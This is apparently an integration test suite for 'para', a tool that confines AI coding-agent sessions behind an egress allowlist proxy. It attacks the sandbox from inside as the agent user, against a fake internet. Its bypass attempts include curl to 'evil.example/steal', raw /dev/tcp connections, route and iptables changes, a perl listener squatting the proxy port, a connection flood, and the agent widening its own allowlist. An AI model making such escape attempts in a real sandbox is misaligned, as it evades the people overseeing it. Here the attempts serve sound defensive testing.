// The egress allowlist, attacked from inside real session containers as the agent user, over a
// fake internet of the test's own containers: HTTPS servers (certificates from a throwaway CA)
// for an allowed host (api.anthropic.com) and a denied one (evil.example), a DNS server that
// logs every query, and a "corporate" proxy. Nothing leaves that network.
import fs from 'fs-extra';
import { networkInterfaces } from 'node:os';
import path from 'node:path';
import { suite } from 'uvu';
import { waitUntil } from './support/engine.ts';
import * as assert from 'uvu/assert';
import { docker } from '../scripts/lib/engine/docker.ts';
import { inspectContainer } from './support/verbs.ts';
import { DEFAULT_ALLOWED_HOSTS } from '../scripts/lib/egress/rules.ts';
import { sessionPaths } from '../scripts/lib/session/paths.ts';
import { runScript, SESSION_IMAGE, sessionTestImage, testEgressImage, type ScriptResult } from './support/images.ts';
import { build, certsFolder, HANDLER, httpsServer, netImage, runServer, testNetwork, type Server } from './support/internet.ts';
import { makeRepo, type TestRepo } from './support/repos.ts';
import { onCleanup, RUN_ID, TEST_LABEL, tempDir, trackImage, uniqueName } from './support/resources.ts';

/** The session image plus curl, and the tools an agent would try to get around the proxy with. */
const AGENT_IMAGE = trackImage(`para-egress-agent-test-${RUN_ID}:latest`);
const CA_FILE_IN_SESSION = '/etc/para/extra-ca-certificates.pem';

interface Internet {
  network: string;
  gateway: string;
  /** The test CA (PEM) on the host. */
  ca: string;
  api: Server;
  evil: Server;
  dns: Server;
  corp: Server;
}

let internet: Internet;

async function setUpInternet(): Promise<Internet> {
  await Promise.all([
    build(
      AGENT_IMAGE,
      `FROM ${SESSION_IMAGE}\nUSER root\nRUN apt-get update -q && DEBIAN_FRONTEND=noninteractive apt-get install -y -q --no-install-recommends curl iproute2 iptables sudo openssl >/dev/null && rm -rf /var/lib/apt/lists/*\nUSER para\n`,
    ),
    netImage(),
  ]);
  const certs = await certsFolder(['api.anthropic.com', 'evil.example'], { 'handler.sh': HANDLER });
  const servers: string[] = [];
  const { network, gateway } = await testNetwork(servers);
  const api = await httpsServer(network, 'api.anthropic.com', certs);
  const evil = await httpsServer(network, 'evil.example', certs);
  // A corporate proxy that wants a password and logs what goes through it.
  const corpConf = [
    'Port 3128',
    'Listen 0.0.0.0',
    'Timeout 30',
    'LogLevel Connect',
    'BasicAuth corp-user s3cret-PARAFAKE-proxy-password',
    'ConnectPort 443',
    'MaxClients 20',
  ].join('\n');
  const corp = await runServer(network, 'corp', ['sh', '-c', `printf '%s\\n' "$0" > /tmp/tp.conf && exec tinyproxy -d -c /tmp/tp.conf`, corpConf]);
  servers.push(api.container, evil.container, corp.container);
  const hostAddress = hostIPv4();
  // A second network made with --subnet only (docker records no gateway) and nothing on it (its
  // bridge is down): its implied gateway is still the host's, as the red team found.
  const idle = await idleNetwork();
  const addresses = [
    `/idle-bridge.para-test/${idle}`,
    `/api.anthropic.com/${api.ip}`,
    // dnsmasq answers for subdomains too: api.anthropic.com.evil.example is a look-alike at evil's address.
    `/evil.example/${evil.ip}`,
    `/probe-allowed.para-test/${api.ip}`,
    `/probe-denied.para-test/${evil.ip}`,
    `/gw.para-test/${gateway}`,
    `/lo.para-test/127.0.0.1`,
    `/ll.para-test/169.254.169.254`,
    ...(hostAddress ? [`/hostaddr.para-test/${hostAddress}`] : []),
  ];
  const dns = await runServer(network, 'dns', [
    'dnsmasq',
    '--no-daemon',
    '--log-queries',
    '--log-facility=-',
    '--no-resolv',
    '--no-hosts',
    ...addresses.map((a) => `--address=${a}`),
  ]);
  servers.push(dns.container);
  return { network, gateway, ca: path.join(certs, 'ca.pem'), api, evil, dns, corp };
}

/** A network of the test's own with an explicit subnet and no container; returns its implied gateway. */
async function idleNetwork(): Promise<string> {
  for (let attempt = 0; attempt < 20; attempt += 1) {
    const third = 1 + Math.floor(Math.random() * 250);
    const second = 200 + Math.floor(Math.random() * 50);
    const name = uniqueName('para-egress-idle');
    const made = await docker(['network', 'create', '--label', `${TEST_LABEL}=${RUN_ID}`, '--subnet', `10.${second}.${third}.0/24`, name], {
      allowFailure: true,
    });
    if (made.exitCode !== 0) continue;
    onCleanup(() => docker(['network', 'rm', name], { allowFailure: true }));
    return `10.${second}.${third}.1`;
  }
  throw new Error('no free subnet for the idle network');
}

function hostIPv4(): string | undefined {
  return Object.values(networkInterfaces())
    .flat()
    .find((entry) => entry && entry.family === 'IPv4' && !entry.internal)?.address;
}

async function requests(server: Server): Promise<string> {
  const result = await docker(['exec', server.container, 'sh', '-c', 'cat /tmp/requests.log 2>/dev/null || true']);
  return result.stdout;
}

async function dnsQueries(): Promise<string> {
  const result = await docker(['logs', internet.dns.container]);
  return `${result.stdout}\n${result.stderr}`;
}

interface Session {
  repo: TestRepo;
  name: string;
  container: string;
  proxy: string;
  env: Record<string, string | undefined>;
}

function baseEnv(repo: TestRepo, extra: Record<string, string | undefined> = {}): Record<string, string | undefined> {
  return {
    ...repo.env,
    PARA_EGRESS_DNS: internet.dns.ip,
    NODE_EXTRA_CA_CERTS: internet.ca,
    HTTPS_PROXY: undefined,
    https_proxy: undefined,
    HTTP_PROXY: undefined,
    http_proxy: undefined,
    ...extra,
  };
}

async function startSession(
  args: string[],
  options: { repo?: TestRepo; env?: Record<string, string | undefined> } = {},
): Promise<Session & { result: ScriptResult }> {
  const repo = options.repo ?? (await makeRepo());
  const name = `e${Math.random().toString(36).slice(2, 8)}`;
  const env = baseEnv(repo, options.env);
  const network = args.includes('--egress-network') ? [] : ['--egress-network', internet.network];
  const result = await runScript('start.ts', [name, '--container', '--detach', '--image', AGENT_IMAGE, ...network, ...args, '--', 'sleep', '600'], {
    cwd: repo.root,
    env,
  });
  const paths = sessionPaths({ root: repo.root, commonDir: path.join(repo.root, '.git') }, name);
  return { repo, name, container: paths.container, proxy: paths.proxy, env, result };
}

async function started(
  args: string[],
  options: { repo?: TestRepo; env?: Record<string, string | undefined> } = {},
): Promise<Session & { result: ScriptResult }> {
  const session = await startSession(args, options);
  assert.is(session.result.exitCode, 0, session.result.stderr);
  return session;
}

/** A shell command as the agent user inside the session. */
async function agent(session: Session, command: string): Promise<{ stdout: string; stderr: string; exitCode: number }> {
  const result = await docker(['exec', '--user', 'para', session.container, 'bash', '-c', command], { allowFailure: true, timeoutMs: 90_000 });
  return result;
}

/** curl from inside, through whatever proxy variables the session has; the HTTP status, or the failure. */
async function fetchFromInside(session: Session, url: string, extra = ''): Promise<string> {
  const result = await agent(session, `curl -sS --max-time 10 --cacert ${CA_FILE_IN_SESSION} ${extra} -o /dev/null -w '%{http_code}' '${url}'`);
  return result.exitCode === 0 ? result.stdout.trim() : `failed: ${result.stderr.trim()}`;
}

async function proxyLog(session: Session): Promise<string> {
  const result = await docker(['logs', session.proxy], { allowFailure: true });
  return result.stdout;
}

/** Every way out that ignores the proxy: by name, by address (bash /dev/tcp), IPv6, DNS. Returns what got through. */
async function bypasses(session: Session): Promise<string[]> {
  const through: string[] = [];
  const direct = await fetchFromInside(session, 'https://api.anthropic.com/direct', "--noproxy '*'");
  if (!direct.startsWith('failed')) through.push(`by name: ${direct}`);
  const byAddress = await agent(session, `timeout 5 bash -c 'exec 3<>/dev/tcp/${internet.evil.ip}/443' && echo connected`);
  if (byAddress.stdout.includes('connected')) through.push(`by address ${internet.evil.ip}`);
  const gateway = await agent(session, `timeout 5 bash -c 'exec 3<>/dev/tcp/${internet.gateway}/22' 2>&1; echo $?`);
  if (!/unreachable/i.test(gateway.stdout)) through.push(`the gateway answered: ${gateway.stdout.trim()}`);
  const lookup = await agent(session, 'getent hosts api.anthropic.com');
  if (lookup.exitCode === 0) through.push(`DNS answered: ${lookup.stdout.trim()}`);
  // Loopback's own entries do not lead out (gVisor lists its local table here too).
  const routes = await agent(session, "{ ip -4 route show; ip -6 route show; } | grep -v ' dev lo \\|^fe80\\|^::1\\|^$' || true");
  if (routes.stdout.trim()) through.push(`routes: ${routes.stdout.trim()}`);
  return through;
}

const egress = suite('egress allowlist: attacked from inside a session');

egress.before(async () => {
  await Promise.all([sessionTestImage(), testEgressImage()]);
  internet = await setUpInternet();
});

// The core of the suite runs twice: on the engine's default runtime and with the session container
// under gVisor (--runtime runsc; the proxy and forwarder stay on runc in its network namespace).
for (const runtime of ['default', 'runsc']) {
  const extra = runtime === 'runsc' ? ['--runtime', 'runsc'] : [];
  const under = runtime === 'runsc' ? ' (under gVisor)' : '';
  const tag = runtime;

  egress(`the allowed host answers through the proxy; the denied one, plain HTTP, port 80 and raw addresses are refused and logged${under}`, async () => {
    const s = await started(extra);
    if (runtime === 'runsc') assert.is((await docker(['inspect', '--format', '{{.HostConfig.Runtime}}', s.container])).stdout.trim(), 'runsc');
    assert.is(await fetchFromInside(s, `https://api.anthropic.com/hello-${tag}`), '200');
    assert.match(await requests(internet.api), `GET /hello-${tag}`);
    assert.match(await fetchFromInside(s, 'https://evil.example/steal'), /failed: .*403/);
    assert.match(await fetchFromInside(s, 'http://api.anthropic.com/plain'), '403');
    assert.match(await fetchFromInside(s, 'https://api.anthropic.com:80/', '--proxytunnel'), /failed: .*403/);
    assert.match(await fetchFromInside(s, `https://${internet.api.ip}/`, '-k'), /failed: .*403/);
    const log = await proxyLog(s);
    assert.match(log, /CONNECT evil\.example:443 403 TCP_DENIED refused:host-not-in-allowlist/);
    assert.match(log, /GET http:\/\/api\.anthropic\.com\/plain 403 TCP_DENIED refused:only-CONNECT-is-allowed/);
    assert.match(log, /CONNECT api\.anthropic\.com:80 403 TCP_DENIED refused:only-port-443/);
    assert.match(log, new RegExp(`CONNECT ${internet.api.ip.replace(/\./g, '\\.')}:443 403 TCP_DENIED refused:host-not-in-allowlist`));
    assert.is(await requests(internet.evil), '', 'the denied server saw a request');
  });

  egress(`no way around the proxy: no route, no DNS, no IPv6, no capabilities, no sudo${under}`, async () => {
    const s = await started(extra);
    assert.equal(await bypasses(s), []);
    // The interfaces, from /proc/net/dev (gVisor has no /sys/class/net): loopback only.
    assert.is((await agent(s, 'awk -F: \'NR > 2 { gsub(/ /, "", $1); print $1 }\' /proc/net/dev')).stdout.trim(), 'lo');
    const route = await agent(s, `ip route add default via ${internet.gateway} 2>&1`);
    assert.is.not(route.exitCode, 0);
    assert.match(route.stdout, /Operation not permitted|RTNETLINK/);
    const flush = await agent(s, 'iptables -F 2>&1');
    assert.is.not(flush.exitCode, 0);
    const sudo = await agent(s, 'sudo -n true 2>&1');
    assert.is.not(sudo.exitCode, 0);
    // no_new_privs asked of the kernel itself (prctl): gVisor's /proc/self/status has no NoNewPrivs line.
    const status = await agent(s, 'grep "^CapEff" /proc/self/status; setpriv --dump 2>/dev/null | grep no_new_privs');
    assert.match(status.stdout, /CapEff:\s+0000000000000000/);
    assert.match(status.stdout, /no_new_privs: 1/);
    // The proxy's own configuration is out of reach: no volume of it is mounted into the session.
    const mounts = (await docker(['inspect', '--format', '{{json .Mounts}}', s.container])).stdout;
    assert.not.match(mounts, '-egress"', 'the proxy volume is mounted in the session');
    assert.is(await requests(internet.evil), '');
  });

  egress(`a denied name is refused before any lookup; an allowed one is resolved (the DNS server is the witness)${under}`, async () => {
    const s = await started([...extra, '--allow', `probe-allowed-${tag}.para-test`]);
    assert.match(await fetchFromInside(s, `https://probe-denied-${tag}.para-test/`), /failed: .*403/);
    assert.match(await fetchFromInside(s, `https://probe-allowed-${tag}.para-test/`, '-k'), /^(200|failed)/);
    const queries = await dnsQueries();
    assert.match(queries, `query[A] probe-allowed-${tag}.para-test`, 'the allowed name was never resolved: the witness does not work');
    assert.not.match(queries, `probe-denied-${tag}.para-test`);
  });
}

egress('names that resolve to the Docker host, loopback or link-local are refused even when allowed', async () => {
  const names = ['gw.para-test', 'idle-bridge.para-test', 'lo.para-test', 'll.para-test', ...(hostIPv4() ? ['hostaddr.para-test'] : [])];
  const s = await started(names.flatMap((n) => ['--allow', n]));
  for (const name of names) {
    assert.match(await fetchFromInside(s, `https://${name}/`, '-k'), /failed: .*403/, name);
  }
  const log = await proxyLog(s);
  for (const name of names) assert.match(log, new RegExp(`CONNECT ${name.replace(/\./g, '\\.')}:443 403 TCP_DENIED refused:resolves-to-a-docker-host`), name);
});

egress('hundreds of connections held open neither kill the proxy nor let the agent take its port', async () => {
  const s = await started([]);
  const paths = sessionPaths({ root: s.repo.root, commonDir: '' }, s.name);
  // 300 connections held for 20 s, each in its own process, in the background.
  await agent(s, 'for i in $(seq 300); do (exec 3<>/dev/tcp/127.0.0.1/3128; sleep 20) >/dev/null 2>&1 & done; sleep 8; true');
  for (const name of [paths.proxy, paths.forwarder]) assert.ok((await inspectContainer(name))?.State.Running, `${name} died under the flood`);
  await agent(s, 'pkill -u para sleep; true');
  // Once the held connections are gone the proxy serves again (how soon depends on the machine's load).
  let after = '';
  for (let i = 0; i < 15 && after !== '200'; i += 1) {
    after = await fetchFromInside(s, 'https://api.anthropic.com/after-flood');
    if (after !== '200') await new Promise((resolve) => setTimeout(resolve, 1000));
  }
  assert.is(after, '200');
});

egress("an agent holding the proxy's port once the forwarder is gone: start restarts the container and takes it back", async () => {
  const s = await started([]);
  const paths = sessionPaths({ root: s.repo.root, commonDir: '' }, s.name);
  await docker(['stop', '--time', '0', paths.forwarder]);
  const squat = `nohup perl -MIO::Socket::INET -e '$s = IO::Socket::INET->new(LocalAddr => "127.0.0.1:3128", Listen => 5, ReuseAddr => 1) or die; while (my $c = $s->accept) { print $c "HTTP/1.1 200 Connection established\\r\\n\\r\\n"; close $c }' >/dev/null 2>&1 &`;
  await agent(s, `${squat} sleep 1; true`);
  assert.match((await agent(s, "timeout 3 bash -c 'exec 3<>/dev/tcp/127.0.0.1/3128 && echo held'")).stdout, 'held');
  const resumed = await runScript('start.ts', [s.name, '--container', '--detach', '--image', AGENT_IMAGE], { cwd: s.repo.root, env: s.env });
  assert.is(resumed.exitCode, 0, resumed.stderr);
  assert.match(resumed.stderr, "held the proxy's port");
  assert.is((await agent(s, 'pgrep -u para perl || echo gone')).stdout.trim(), 'gone');
  assert.is(await fetchFromInside(s, 'https://api.anthropic.com/taken-back'), '200');
});

egress('--allow and the repository file admit a host; a look-alike name stays refused', async () => {
  const s = await started(['--allow', 'evil.example']);
  assert.is(await fetchFromInside(s, 'https://evil.example/allowed'), '200');
  assert.match(await fetchFromInside(s, 'https://api.anthropic.com.evil.example/', '-k'), /failed: .*403/);
  assert.match(await proxyLog(s), /CONNECT api\.anthropic\.com\.evil\.example:443 403 TCP_DENIED refused:host-not-in-allowlist/);

  // The team's file, committed (para's .gitignore lets it through).
  const repo = await makeRepo();
  await fs.mkdir(path.join(repo.root, '.para'), { recursive: true });
  await fs.writeFile(path.join(repo.root, '.para', 'allowed-hosts'), '# the team needs these\nevil.example\n');
  await repo.git(['add', '.para/allowed-hosts']);
  await repo.git(['commit', '-q', '-m', 'the hosts our sessions need']);
  const fromFile = await started([], { repo });
  assert.is(await fetchFromInside(fromFile, 'https://evil.example/from-file'), '200');
  const list = await runScript('list.ts', ['--json'], { cwd: repo.root, env: fromFile.env });
  const view = JSON.parse(list.stdout).sessions.find((x: { name: string }) => x.name === fromFile.name);
  assert.equal(view.egress.hosts, ['api.anthropic.com', 'platform.claude.com', 'evil.example']);
  assert.is(view.egress.mode, 'allowlist');
  assert.is(view.egress.proxy, 'running');
  assert.equal(view.warnings, []);
  assert.match(await requests(internet.evil), 'GET /from-file');
  // The agent widens the list in its own branch: the file it can write is not the one read, and list says so.
  const worktree = path.join(repo.root, '.para', 'worktrees', fromFile.name);
  const widened = await agent(fromFile, `cd ${worktree} && echo '*.example.net' >> .para/allowed-hosts && git commit -qam widen`);
  assert.is(widened.exitCode, 0, widened.stderr);
  // list brings the commit back once the session has reported it (its status line, within about 2 s).
  let after: { sessions: Array<{ warnings: string[]; egress: { hosts: string[] } }> } = { sessions: [] };
  await waitUntil(
    'list to bring the commit back',
    async () => {
      after = JSON.parse((await runScript('list.ts', ['--json'], { cwd: repo.root, env: fromFile.env })).stdout);
      return after.sessions[0].warnings.join('\n').includes('changes .para/allowed-hosts');
    },
    30_000,
  );
  assert.equal(after.sessions[0].egress.hosts, ['api.anthropic.com', 'platform.claude.com', 'evil.example']);
});

egress('the repository file must be a plain file, and bad host names are refused before anything is made', async () => {
  const repo = await makeRepo();
  await fs.mkdir(path.join(repo.root, '.para'), { recursive: true });
  const elsewhere = path.join(await tempDir('para-test-allow-'), 'hosts');
  await fs.writeFile(elsewhere, 'evil.example\n');
  await fs.symlink(elsewhere, path.join(repo.root, '.para', 'allowed-hosts'));
  const linked = await startSession([], { repo });
  assert.is(linked.result.exitCode, 1);
  assert.match(linked.result.stderr, 'is not a regular file');
  const bad = await startSession(['--allow', 'api.anthropic.com/evil']);
  assert.is(bad.result.exitCode, 2);
  assert.match(bad.result.stderr, 'is not a host name');
  const wild = await startSession(['--allow', '*.com']);
  assert.is(wild.result.exitCode, 2);
  assert.match(wild.result.stderr, 'top-level domain');
  for (const s of [linked, bad, wild]) {
    assert.not.ok(await inspectContainer(s.container), 'a container was left');
    assert.not.ok(await inspectContainer(s.proxy), 'a proxy was left');
    assert.is((await s.repo.git(['branch', '--list', 'para/*'])).trim(), '');
  }
});

egress('the real claude CLI reaches the fake api.anthropic.com through the proxy, trusting the CA given by NODE_EXTRA_CA_CERTS', async () => {
  const s = await started([]);
  // A fake key, in the command only (a test's fake, not a secret).
  await agent(s, 'ANTHROPIC_API_KEY=sk-ant-api03-PARAFAKE-egress-test timeout 30 claude -p hello >/tmp/claude.out 2>&1; echo $? >/tmp/claude.rc');
  assert.match(await requests(internet.api), 'POST /v1/messages', (await agent(s, 'cat /tmp/claude.out')).stdout);
  assert.match(await proxyLog(s), /CONNECT api\.anthropic\.com:443 200 TCP_TUNNEL allowed/);
});

egress('every host the real claude CLI asks for, with an API key, a setup-token or an expiring subscription login, is on the default list', async () => {
  const s = await started([]);
  const expired = JSON.stringify({
    claudeAiOauth: {
      accessToken: 'sk-ant-oat01-PARAFAKE-expired',
      refreshToken: 'sk-ant-ort01-PARAFAKE',
      expiresAt: 1000,
      scopes: ['user:inference'],
      subscriptionType: 'max',
    },
  });
  const runs = [
    'ANTHROPIC_API_KEY=sk-ant-api03-PARAFAKE-egress-test timeout 20 claude -p hello',
    'CLAUDE_CODE_OAUTH_TOKEN=sk-ant-oat01-PARAFAKE-egress-test timeout 20 claude -p hello',
    `printf '%s' '${expired}' > ~/.claude/.credentials.json && timeout 20 claude -p hello`,
  ];
  for (const command of runs) await agent(s, `${command} >/dev/null 2>&1; true`);
  // para-probe.invalid is para's own readiness probe (the job runner's, before the command starts).
  const asked = [...(await proxyLog(s)).matchAll(/CONNECT ([^\s:]+):443/g)].map((m) => m[1]).filter((host) => host !== 'para-probe.invalid');
  assert.ok(asked.includes('api.anthropic.com'), `claude asked for: ${[...new Set(asked)].join(', ')}`);
  assert.ok(asked.includes('platform.claude.com'), `the expired login was not refreshed through the proxy: ${[...new Set(asked)].join(', ')}`);
  const missing = [...new Set(asked)].filter((host) => !DEFAULT_ALLOWED_HOSTS.includes(host));
  assert.equal(missing, [], `claude asked for hosts the default list lacks: ${missing.join(', ')}`);
});

egress("the host's proxy is chained to, its password reaches only the proxy's own configuration", async () => {
  const password = 's3cret-PARAFAKE-proxy-password';
  const s = await started([], { env: { HTTPS_PROXY: `http://corp-user:${password}@${internet.corp.ip}:3128` } });
  assert.is(await fetchFromInside(s, 'https://api.anthropic.com/via-corp'), '200');
  const corpLog = (await docker(['logs', internet.corp.container])).stderr + (await docker(['logs', internet.corp.container])).stdout;
  assert.match(corpLog, 'CONNECT api.anthropic.com:443');
  for (const container of [s.container, s.proxy, sessionPaths({ root: s.repo.root, commonDir: '' }, s.name).forwarder]) {
    const inspected = (await docker(['inspect', container])).stdout;
    assert.not.match(inspected, password, `${container}'s arguments, environment or labels hold the password`);
  }
  const stateFile = await fs.readFile(path.join(s.repo.root, '.git', 'para', 'sessions', `${s.name}.json`), 'utf8');
  assert.not.match(stateFile, password);
  assert.match(stateFile, `"upstream": "${internet.corp.ip}:3128"`);
  // Denied names are still refused by the session's proxy, before the corporate one sees them.
  assert.match(await fetchFromInside(s, 'https://evil.example/'), /failed: .*403/);
  assert.not.match(corpLog, 'evil.example');
});

egress('negative control: with --egress open the same checks find the way around', async () => {
  const s = await started(['--egress', 'open']);
  assert.match(s.result.stderr, 'open egress');
  const through = await bypasses(s);
  assert.ok(
    through.some((t) => t.startsWith('by address')),
    `the bypass checks found nothing in an open session: ${through.join('; ')}`,
  );
  assert.not.ok(await inspectContainer(s.proxy), 'an open session has a proxy');
  const list = await runScript('list.ts', [], { cwd: s.repo.root, env: s.env });
  assert.match(list.stdout, 'OPEN');
});

egress('--egress none: no network and no proxy', async () => {
  const s = await started(['--egress', 'none']);
  assert.is((await agent(s, 'ls /sys/class/net')).stdout.trim(), 'lo');
  assert.not.ok(await inspectContainer(s.proxy));
  assert.match(await fetchFromInside(s, 'https://api.anthropic.com/'), /^failed/);
});

egress('the proxy goes with the session: cancel, finish, a failed start, and a restarted container gets a new forwarder', async () => {
  const s = await started([]);
  const paths = sessionPaths({ root: s.repo.root, commonDir: '' }, s.name);
  // The container restarted (a daemon restart does this): the forwarder is in a dead namespace.
  await docker(['restart', '-t', '0', s.container]);
  const listed = JSON.parse((await runScript('list.ts', ['--json'], { cwd: s.repo.root, env: s.env })).stdout);
  assert.is(listed.sessions[0].egress.proxy, 'stale');
  const resumed = await runScript('start.ts', [s.name, '--container', '--detach', '--image', AGENT_IMAGE], { cwd: s.repo.root, env: s.env });
  assert.is(resumed.exitCode, 0, resumed.stderr);
  assert.is(await fetchFromInside(s, 'https://api.anthropic.com/after-restart'), '200');
  const cancelled = await runScript('cancel.ts', [s.name, '--force'], { cwd: s.repo.root, env: s.env });
  assert.is(cancelled.exitCode, 0, cancelled.stderr);
  for (const name of [paths.container, paths.proxy, paths.forwarder]) assert.not.ok(await inspectContainer(name), `${name} is left`);
  assert.is((await docker(['volume', 'ls', '-q', '--filter', `name=${paths.egressVolume}`])).stdout.trim(), '');

  const f = await started([]);
  const fp = sessionPaths({ root: f.repo.root, commonDir: '' }, f.name);
  const finished = await runScript('finish.ts', [f.name, '-m', 'done'], { cwd: f.repo.root, env: f.env });
  assert.is(finished.exitCode, 0, finished.stderr);
  for (const name of [fp.proxy, fp.forwarder]) assert.not.ok(await inspectContainer(name), `${name} is left`);

  // A proxy that cannot start (its network is gone) rolls the whole start back.
  const broken = await startSession(['--egress-network', `para-no-such-network-${RUN_ID}`]);
  assert.is.not(broken.result.exitCode, 0);
  assert.match(broken.result.stderr, 'does not exist');
  assert.not.ok(await inspectContainer(broken.container));
  assert.is((await broken.repo.git(['branch', '--list', 'para/*'])).trim(), '');
});

egress("the doctor asks each session's proxy from inside, and names a broken one and an open one", async () => {
  const s = await started([]);
  const doctor = async () => {
    const result = await runScript('doctor.ts', ['--json', '--image', AGENT_IMAGE], { cwd: s.repo.root, env: s.env });
    return JSON.parse(result.stdout).checks as Array<{ id: string; status: string; message: string; fix: string | null }>;
  };
  const healthy = await doctor();
  assert.equal(
    healthy.filter((c) => c.id.startsWith('egress')).map((c) => [c.id, c.status]),
    [
      ['egress-image', 'ok'],
      ['egress', 'ok'],
    ],
  );
  assert.match(healthy.find((c) => c.id === 'egress')!.message, '1 allowlist session with a working proxy');
  await docker(['rm', '-f', sessionPaths({ root: s.repo.root, commonDir: '' }, s.name).forwarder]);
  const open = await started(['--egress', 'open'], { repo: s.repo });
  const broken = (await doctor()).find((c) => c.id === 'egress')!;
  assert.is(broken.status, 'warn');
  assert.match(broken.message, `${s.name} (proxy missing)`);
  assert.match(broken.message, `${open.name} has OPEN egress`);
});

egress("the host's NODE_EXTRA_CA_CERTS reaches claude in the session; a file holding a private key does not", async () => {
  // This machine's own intercepting CA, when it has one (the real case of a corporate network).
  const hostCa = process.env.NODE_EXTRA_CA_CERTS;
  const s = await started([], { env: { NODE_EXTRA_CA_CERTS: hostCa ?? internet.ca } });
  const inside = await agent(s, `cat ${CA_FILE_IN_SESSION}; echo; echo "env=$NODE_EXTRA_CA_CERTS"`);
  assert.ok(inside.stdout.startsWith(await fs.readFile(hostCa ?? internet.ca, 'utf8')), 'the CA inside is not the host file');
  assert.match(inside.stdout, `env=${CA_FILE_IN_SESSION}`);
  const withKey = path.join(await tempDir('para-test-ca-'), 'bundle.pem');
  await fs.writeFile(withKey, `${await fs.readFile(internet.ca, 'utf8')}-----BEGIN PRIVATE KEY-----\nnot a real key\n-----END PRIVATE KEY-----\n`);
  const refused = await started([], { env: { NODE_EXTRA_CA_CERTS: withKey } });
  assert.match(refused.result.stderr, 'does not hold certificates only');
  assert.not.match((await docker(['inspect', '--format', '{{json .Mounts}}', refused.container])).stdout, 'extra-ca-certificates');
});

egress('clean removes the proxy, forwarder and volume of a session whose state is gone', async () => {
  const s = await started([]);
  const paths = sessionPaths({ root: s.repo.root, commonDir: '' }, s.name);
  await fs.rm(path.join(s.repo.root, '.git', 'para', 'sessions', `${s.name}.json`));
  const cleaned = await runScript('clean.ts', [], { cwd: s.repo.root, env: s.env });
  assert.is(cleaned.exitCode, 0, cleaned.stderr);
  for (const name of [paths.container, paths.proxy, paths.forwarder]) assert.not.ok(await inspectContainer(name), `${name} is left`);
  assert.is((await docker(['volume', 'ls', '-q', '--filter', `name=${paths.egressVolume}`])).stdout.trim(), '');
});

egress('without the proxy image, start says to run make image and leaves nothing', async () => {
  const s = await startSession([], { env: { PARA_EGRESS_IMAGE: `para-egress-missing-${RUN_ID}:latest` } });
  assert.is(s.result.exitCode, 1);
  assert.match(s.result.stderr, 'egress proxy image');
  assert.match(s.result.stderr, 'make image');
  assert.not.ok(await inspectContainer(s.container));
  assert.is((await s.repo.git(['branch', '--list', 'para/*'])).trim(), '');
});

egress(
  'a refused host gets a page that says how to ask; para egress tallies it; para allow admits it live, while an open tunnel and the job keep running',
  async () => {
    const s = await started([]);
    const para = (script: string, args: string[]) => runScript(script, args, { cwd: s.repo.root, env: s.env });
    // The refusal's body speaks to the agent: not allowed, do not work around it, the exact command.
    const raw = await agent(
      s,
      // Asked until the proxy answers: right after a start on a loaded machine squid may still be coming up.
      `for i in $(seq 30); do r=$(exec 3<>/dev/tcp/127.0.0.1/3128 && printf 'CONNECT evil.example:443 HTTP/1.1\\r\\nHost: evil.example:443\\r\\n\\r\\n' >&3 && timeout 5 cat <&3); case "$r" in HTTP*) break;; esac; sleep 0.5; done; printf '%s' "$r"`,
    );
    assert.match(raw.stdout, /^HTTP\/1\.1 403/);
    assert.match(raw.stdout, "the host evil.example is not on this session's egress allowlist");
    assert.match(raw.stdout, 'Do not try to reach it another way');
    assert.match(raw.stdout, new RegExp(`allow\\.(mjs|ts) ${s.name} evil\\.example`));
    assert.is(await fetchFromInside(s, 'https://api.anthropic.com/before-allow'), '200');
    // A tunnel opened before the reload carries a request sent after it.
    await agent(
      s,
      `nohup sh -c "{ sleep 8; printf 'GET /through-reload HTTP/1.1\\\\r\\\\nHost: api.anthropic.com\\\\r\\\\n\\\\r\\\\n'; sleep 4; } | openssl s_client -quiet -proxy 127.0.0.1:3128 -connect api.anthropic.com:443 -servername api.anthropic.com -CAfile ${CA_FILE_IN_SESSION}" > /tmp/tunnel.log 2>&1 & sleep 2; true`,
    );
    // list counts the refusals nobody has looked at yet; para egress is that look.
    const counted = async () =>
      (
        JSON.parse((await para('list.ts', ['--json'])).stdout) as { sessions: Array<{ name: string; egress: { refusedSinceLastLook: number | null } }> }
      ).sessions.find((x) => x.name === s.name)!.egress.refusedSinceLastLook;
    assert.ok(((await counted()) ?? 0) >= 1);
    const report = JSON.parse((await para('egress.ts', [s.name, '--json'])).stdout) as {
      hosts: Array<{ host: string; verdict: string; count: number; reason: string }>;
    };
    const evil = report.hosts.find((h) => h.host === 'evil.example');
    assert.ok(evil && evil.verdict === 'refused' && evil.count >= 1, JSON.stringify(report));
    assert.is(evil!.reason, 'refused:host-not-in-allowlist');
    assert.ok(report.hosts.some((h) => h.host === 'api.anthropic.com' && h.verdict === 'admitted'));
    assert.is(await counted(), 0);
    const table = await para('egress.ts', [s.name]);
    assert.match(table.stdout, /refused\s+\d+\s+\S+ \S+\s+evil\.example\s+host-not-in-allowlist/);
    assert.match(table.stdout, new RegExp(`allow\\.(mjs|ts) ${s.name} evil\\.example`));
    // Bad hosts are refused as --allow refuses them, and change nothing.
    const bad = await para('allow.ts', [s.name, 'evil.example/path']);
    assert.is(bad.exitCode, 2, bad.stderr);
    const allowed = await para('allow.ts', [s.name, 'evil.example', '--json']);
    assert.is(allowed.exitCode, 0, allowed.stderr);
    const result = JSON.parse(allowed.stdout) as { added: string[]; reloaded: boolean; reloadMs: number };
    assert.equal(result.added, ['evil.example']);
    assert.ok(result.reloaded && result.reloadMs > 0, allowed.stdout);
    assert.is(await fetchFromInside(s, 'https://evil.example/after-allow'), '200');
    await new Promise((resolve) => setTimeout(resolve, 9000));
    assert.match(await requests(internet.api), 'GET /through-reload', (await agent(s, 'cat /tmp/tunnel.log')).stdout);
    // The session and its job never stopped; list shows the host; a proxy restart keeps it.
    const list = JSON.parse((await para('list.ts', ['--json'])).stdout) as {
      sessions: Array<{ name: string; containerState: string; egress: { hosts: string[] } }>;
    };
    const view = list.sessions.find((x) => x.name === s.name)!;
    assert.is(view.containerState, 'running');
    assert.ok(view.egress.hosts.includes('evil.example'));
    assert.is((await agent(s, 'cat /proc/1/cmdline | tr "\\0" " "; echo')).exitCode, 0);
    await docker(['restart', '--time', '1', s.proxy]);
    let after = '';
    for (let i = 0; i < 30 && after !== '200'; i += 1) {
      after = await fetchFromInside(s, 'https://evil.example/after-restart');
      if (after !== '200') await new Promise((resolve) => setTimeout(resolve, 500));
    }
    assert.is(after, '200');
    const again = JSON.parse((await para('allow.ts', [s.name, 'evil.example', '--json'])).stdout) as { added: string[] };
    assert.equal(again.added, []);
  },
);

egress.run();
